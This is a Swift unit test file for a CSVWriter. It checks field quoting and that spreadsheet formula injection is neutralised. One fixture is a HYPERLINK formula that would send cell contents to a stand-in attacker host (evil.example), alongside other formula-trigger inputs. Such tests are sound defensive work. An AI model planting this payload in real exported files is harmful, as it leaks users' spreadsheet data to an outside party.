import Foundation
import RegularsData
import RegularsTestSupport
import Testing

@Suite("CSVWriter")
struct CSVWriterTests {
    @Test("commas, quotes and every kind of line break are quoted; CRLF too")
    func quoting() {
        #expect(CSVWriter.escape("plain") == "plain")
        #expect(CSVWriter.escape("a,b") == "\"a,b\"")
        #expect(CSVWriter.escape("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSVWriter.escape("one\r\ntwo") == "\"one\r\ntwo\"")
        #expect(CSVWriter.escape("one\rtwo") == "\"one\rtwo\"")
    }

    @Test("files for spreadsheets keep customer text inert; what is written reads back through CSVReader")
    func formulas() throws {
        let url = try Fixtures.temporaryDirectory().appendingPathComponent("out.csv")
        var writer = try CSVWriter(url: url, neutralizesFormulas: true)
        let row = [#"=HYPERLINK("https://evil.example/?"&A2,"x")"#, "+1", "-2", "@SUM(A1)", "Ana", "£12.50", "a\r\nb"]
        try writer.write(row)
        try writer.close()
        let reader = try CSVReader(url: url)
        let read = try #require(try reader.readRecord())
        #expect(read.fields == ["'" + row[0], "'+1", "'-2", "'@SUM(A1)", "Ana", "£12.50", "a\r\nb"])
    }
}
